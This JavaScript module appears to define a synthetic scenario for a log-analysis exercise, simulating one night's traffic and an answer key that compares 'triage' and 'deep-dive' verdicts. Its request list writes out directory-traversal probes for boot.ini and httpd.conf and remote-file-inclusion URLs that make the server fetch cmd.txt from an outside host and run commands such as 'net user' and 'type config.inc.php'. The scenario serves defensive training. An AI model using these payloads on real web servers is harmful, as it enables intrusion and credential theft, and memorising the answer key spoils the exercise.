import { at } from '../clock.mjs';
import { ATTACKER, DEPOT, WEB } from '../network.mjs';
import { ordinaryNight, refusedFlow } from '../night.mjs';
import { Random } from '../random.mjs';
import { fetchOutside } from '../sessions.mjs';
import { exchange, notFound, web } from '../site.mjs';

const page = 'text/html';
const script = `http://${DEPOT}/cmd.txt?`;
/** The site shows its own frame with an error in it where a page cannot be included. */
const refusedPage = { status: 404, size: 1187, type: page };

/** What the attacker asks, when, and what comes back; `fetches` where www1 is made to fetch the script. */
const asked = [
	['03:14:52.610244', '/forum/viewtopic.php?t=1', notFound],
	['03:14:54.228160', '/phpmyadmin/main.php', notFound],
	['03:15:03.940517', '/index.php?page=..%2f..%2f..%2f..%2fboot.ini', refusedPage],
	['03:15:05.177309', '/index.php?page=..%2f..%2f..%2f..%2f..%2fboot.ini%00', refusedPage],
	['03:15:31.502846', '/index.php?page=..%2f..%2fconf%2fhttpd.conf%00', refusedPage],
	['03:16:08.385571', `/index.php?page=${script}&cmd=id`, included(9214)],
	['03:16:49.730925', `/index.php?page=${script}&cmd=ver`, included(9302)],
	['03:17:20.093488', `/index.php?page=${script}&cmd=dir+c:%5c`, included(11_846)],
	['03:18:03.667013', `/index.php?page=${script}&cmd=ipconfig+/all`, included(10_755)],
	['03:18:57.251390', `/index.php?page=${script}&cmd=type+config.inc.php`, included(13_408)],
	['03:20:14.819602', `/index.php?page=${script}&cmd=net+user`, included(9977)]
];

function included(size) {
	return { status: 200, size, type: page, delay: 620_000, fetches: true };
}

function request([clock, target, answer], random) {
	const talk = (conversation, session) => {
		exchange(conversation, session, { target, answer, wait: 1900 });
		conversation.close('r');
	};
	return web(ATTACKER, at(clock), random, talk, 'attack');
}

/** www1 fetches the script while the attacker waits for the page that includes it. */
function fetchScript(visit, random) {
	const start = visit.requests[0].t + 31_000;
	const ends = { src: WEB, dst: DEPOT, dport: 80, service: 'http', start, random };
	return fetchOutside({ ...ends, story: 'script-fetch' }, (conversation) => {
		conversation.say('o', 88, 700);
		conversation.turn('r');
		conversation.say('r', 2911, 3000);
		conversation.turn('o');
		conversation.close('r');
	});
}

function attack() {
	const random = new Random('attack elsewhere');
	return asked.flatMap((step) => {
		const visit = request(step, random);
		return step[2].fetches ? [visit, fetchScript(visit, random)] : [visit];
	});
}

/** The alert is noise; in the same minutes somebody else gets in by the front door. */
export const attackElsewhere = {
	name: 'attack-elsewhere',
	title: 'The alert is noise, the attack is next to it',
	question: 'Which of the two ways of looking notices what the alert does not point at?',
	truth: {
		triage: { verdict: 'suspicious' },
		'deep-dive': { verdict: 'disregard' },
		right: 'triage',
		lesson:
			'The deep dive follows the alert and is right about it. The triage asks whether the target’s own logs are clean, and so meets an attack that raised no alert.'
	},
	night() {
		const night = ordinaryNight();
		return { ...night, sessions: [...night.sessions, refusedFlow(), ...attack()] };
	},
	facts: {
		'conn.log': {
			attack: {
				fact: 'This variation: 198.51.100.77 is answered with data on port 80 of www1, 11 connections',
				origin: 'synthetic'
			},
			'script-fetch': {
				fact: 'This variation: www1 fetches a script from 192.0.2.201, once for each page that includes it',
				origin: 'synthetic'
			}
		},
		'fw-1.log': {
			attack: {
				fact: 'This variation: fw-1 lets 198.51.100.77 through to port 80, as it does every visitor',
				origin: 'synthetic'
			},
			'script-fetch': {
				fact: 'This variation: fw-1 lets www1 out to 192.0.2.201 on port 80',
				origin: 'synthetic'
			}
		},
		'access.log': {
			attack: {
				fact: 'This variation: 198.51.100.77 tries paths and traversal (404), then includes a script and runs commands through it (200, larger pages)',
				origin: 'synthetic'
			}
		}
	}
};
